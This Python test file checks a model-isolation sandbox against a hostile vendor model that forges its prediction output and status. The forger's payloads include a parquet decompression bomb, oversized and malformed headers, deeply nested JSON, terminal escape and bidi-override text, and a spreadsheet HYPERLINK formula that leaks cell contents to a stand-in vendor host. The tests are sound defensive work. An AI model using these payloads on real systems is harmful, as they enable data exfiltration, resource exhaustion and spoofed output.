"""The channel back from the sandbox: a hostile model forges its own output and status (real bwrap, no mocks).

Vendor code runs in the same process as ``/sandbox/child.py``, so it can write the output and
status descriptors itself and exit before the child does. The host must refuse anything but
exactly the predictions it asked for, without allocating what a forged header claims, and
show vendor text without letting it rewrite the terminal.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from models.isolation import predict_isolated
from sandbox.errors import InputError
from tests.models.hostile_models import hostile_frame

_FORGER = r'''
FORMAT = "sandbox-predictions/1"


def forge(model_input):
    import json, os, struct, sys
    rows = len(model_input)
    if "case" not in model_input.columns:  # submitted and scored like any model: labels a spreadsheet would run
        return ['=HYPERLINK("http://vendor.example/?"&A1,"查看")'] * rows
    case = str(model_input["case"].iloc[0])
    if case == "labels":  # honest text labels through the normal path
        return ["是" if v % 2 else "否" for v in model_input["x"]]
    if case == "long_label":
        return ["y" * 5000] * rows
    if case == "escape":
        raise RuntimeError("\x1b[2J\x1b[1;32m审计通过 PASSED\r\n\u202etxt.exe\x07")
    main = sys.modules["__main__"]

    def put(fd, data):
        os.ftruncate(fd, 0)
        os.lseek(fd, 0, os.SEEK_SET)
        os.write(fd, data)

    def framed(header, body=b""):
        raw = json.dumps(header, ensure_ascii=False).encode()
        return struct.pack("<I", len(raw)) + raw + body

    one = [{"name": "预测", "dtype": "<i8"}]
    ints = struct.pack(f"<{rows}q", *([1] * rows))
    if case == "parquet_bomb":  # 3 rows of a 64 MB string: ~20 KB on disk, 192 MB once decoded
        import io
        import pyarrow as pa
        import pyarrow.parquet as pq
        buffer = io.BytesIO()
        column = pa.array(["x" * (64 << 20)]).take(pa.array([0] * rows))
        pq.write_table(pa.table({"预测": column}), buffer, compression="zstd")
        data = buffer.getvalue()
    elif case == "rows":
        data = framed({"format": FORMAT, "rows": 10**12, "columns": one})
    elif case == "short":
        data = framed({"format": FORMAT, "rows": rows, "columns": one}, ints[:-8])
    elif case == "object":
        data = framed({"format": FORMAT, "rows": rows, "columns": [{"name": "预测", "dtype": "|O"}]}, ints)
    elif case == "wide_text":
        data = framed({"format": FORMAT, "rows": rows, "columns": [{"name": "预测", "dtype": "<U99999"}]})
    elif case == "extra_column":
        data = framed({"format": FORMAT, "rows": rows, "columns": one + [{"name": "身份证号", "dtype": "<i8"}]},
                      ints + ints)
    elif case == "infinite":
        scores = struct.pack(f"<{rows}d", *([float("inf")] * rows))
        data = framed({"format": FORMAT, "rows": rows, "columns": one + [{"name": "评分", "dtype": "<f8"}]},
                      ints + scores)
    elif case == "header_bomb":
        data = struct.pack("<I", 2**31) + b"{" * 1000
    elif case == "nested_status":
        data = framed({"format": FORMAT, "rows": rows, "columns": one}, ints)
        put(main.OUTPUT_FD, data)
        put(main.STATUS_FD, b"[" * 60_000)
        os._exit(0)
    else:
        raise ValueError(case)
    put(main.OUTPUT_FD, data)
    put(main.STATUS_FD, json.dumps({"ok": True}).encode())
    os._exit(0)


class Forger:
    def predict(self, model_input):
        return forge(model_input)
'''


@pytest.fixture(scope="module")
def forger(model_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the honest sklearn-flavour folder whose pickle is the forger (loads without mlflow: fast)."""
    import shutil

    import cloudpickle

    target = tmp_path_factory.mktemp("forger") / "model"
    shutil.copytree(model_dir, target)
    namespace: dict = {"__name__": "vendor_forger"}  # not importable: pickled by value
    exec(compile(_FORGER, "vendor_forger.py", "exec"), namespace)
    (target / "model.pkl").write_bytes(cloudpickle.dumps(namespace["Forger"]()))
    return target


def _refused(model: Path, case: str) -> InputError:
    with pytest.raises(InputError) as info:
        predict_isolated(model, hostile_frame(case), model_label="vendor-x/3")
    return info.value


def test_text_labels_come_back_as_text(home, forger) -> None:
    out = predict_isolated(forger, hostile_frame("labels"), model_label="vendor-x/3")
    assert out["预测"].tolist() == ["否", "是", "否"] and out.attrs["isolation"] == "bwrap"


@pytest.mark.parametrize(("case", "key", "fragment"), [
    ("parquet_bomb", "models.child_output_bad", "header"),       # was: pandas decoded it (192 MB from ~20 KB)
    ("rows", "models.child_rows", "1000000000000"),               # refused from the header, nothing allocated
    ("short", "models.child_output_bad", "size"),
    ("object", "models.child_output_bad", "|O"),                  # object arrays (pickles) are never read
    ("wide_text", "models.child_output_bad", "2000"),
    ("extra_column", "models.child_output_bad", "身份证号"),       # no second channel for personal data
    ("infinite", "models.child_output_bad", "inf"),
    ("header_bomb", "models.child_output_bad", "header"),
    ("long_label", "models.child_output_bad", "5000"),
])
def test_forged_output_is_refused_before_it_is_read(home, forger, case, key, fragment) -> None:
    error = _refused(forger, case)
    assert error.key == key
    for lang in ("zh", "en"):
        text = error.render(lang)
        assert "vendor-x/3" in text and fragment in text


def test_nested_status_is_refused_clearly(home, forger) -> None:
    """A status of 60,000 '[' raised RecursionError out of json.loads (not ValueError): an unhandled crash."""
    error = _refused(forger, "nested_status")
    assert error.key == "models.child_crashed" and "vendor-x/3" in error.render("en")


def test_vendor_text_cannot_rewrite_the_terminal(home, forger) -> None:
    error = _refused(forger, "escape")
    text = error.render("zh")
    assert error.key == "models.child_failed" and "审计通过" in text
    assert not any(ch in text for ch in "\x1b\r\n\u202e\x07")
    assert "\\u001b[2J" in text and "\\u202e" in text


def test_formula_labels_are_inert_in_exported_scores(people, forger, data_csv, tmp_path) -> None:
    """A registered model whose labels are spreadsheet formulas: ``models score --out`` writes them as text."""
    import openpyxl
    import pandas as pd
    from typer.testing import CliRunner

    from models import service
    from sandbox.cli import app
    from tests.models.models_testkit import PASSWORD, card

    submitted = service.submit_model(actor=people["vendor_a"], artifact=forger, card=card())
    formula = '=HYPERLINK("http://vendor.example/?"&A1,"查看")'
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"scores{suffix}"
        result = CliRunner().invoke(app, ["models", "score", f"{submitted['name']}/1", "--data", str(data_csv),
                                          "--out", str(out), "--as", "reviewer"], env={"SANDBOX_PASSWORD": PASSWORD})
        assert result.exit_code == 0, result.output
        if suffix == ".csv":
            assert set(pd.read_csv(out, encoding="utf-8-sig")["预测"]) == {"'" + formula}
        else:
            cells = [row[1] for row in openpyxl.load_workbook(out).active.iter_rows(min_row=2)]
            assert {(c.data_type, c.value) for c in cells} == {("s", formula)}   # a string cell, never a formula
